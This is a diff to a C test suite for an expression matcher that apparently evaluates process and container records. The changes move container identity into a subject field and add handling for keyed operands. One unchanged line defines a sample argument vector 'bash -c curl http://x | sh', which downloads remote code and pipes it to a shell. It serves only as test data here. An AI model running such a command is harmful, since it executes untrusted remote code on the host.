@@ -1,5 +1,6 @@
 // SPDX-License-Identifier: Apache-2.0
 #include "expr/expr.h"
+#include "identity/container.h"
 
 #include <criterion/criterion.h>
 #include <errno.h>
@@ -8,6 +9,7 @@
 
 #include "expr.h"
 #include "expr/kernel_model.h"
+#include "expr/operand.h"
 #include "life.h"
 
 #define ARGV "bash\0-c\0curl http://x | sh"
@@ -321,7 +323,7 @@ static const struct { make *make; bool want; const char *text; } rows[] = {
 
 static bool matches(const struct expr *expr, const struct record *r)
 {
-	struct expr_view view = { .record = r, .subject = { .process = family(), .processes = &table } };
+	struct expr_view view = { .record = r, .subject = { .process = family(), .processes = &table, .container = &container_host } };
 
 	return expr_match(expr, &view);
 }
@@ -380,7 +382,7 @@ Test(expr, knows_its_events)
 
 Test(expr, asks_the_caller_for_the_container)
 {
-	struct expr_extra extra = { { "0123456789ab" } }, unknown = { { NULL } };
+	struct container own = { .id = "0123456789ab" };
 	static struct record r;
 	struct arena arena;
 	struct diag diag;
@@ -388,9 +390,9 @@ Test(expr, asks_the_caller_for_the_container)
 
 	record_openat(&r);
 	cr_assert_eq(test_compile(&expr, &arena, "container", NULL, &diag), 0);
-	cr_expect(expr_match(expr, &(struct expr_view){ .record = &r, .extra = &extra }));
-	cr_expect_not(expr_match(expr, &(struct expr_view){ .record = &r, .extra = &unknown }));
+	cr_expect(expr_match(expr, &(struct expr_view){ .record = &r, .subject.container = &own }));
 	cr_expect_not(expr_match(expr, &(struct expr_view){ .record = &r }));
+	cr_expect_not(expr_match(expr, &(struct expr_view){ .record = &r, .subject.container = &container_host }));
 	arena_fini(&arena);
 }
 
@@ -465,10 +467,12 @@ static void count_field(void *ctx, const struct expr_field *field)
 	struct arena arena;
 	struct diag diag;
 	struct expr *expr;
+	const char *arg;
 	char text[128];
 
 	++*(unsigned *)ctx;
-	snprintf(text, sizeof(text), "%s %s", field->name, "exists");
+	snprintf(text, sizeof(text), "%s%s exists", field->name,
+		 operand_keyed(operand_find(field->name, &arg)) ? "[key]" : "");
 	cr_expect_eq(test_compile(&expr, &arena, text, NULL, &diag), 0, "%s: %s", text, diag.text);
 	cr_expect(field->doc && *field->doc && field->type);
 	arena_fini(&arena);
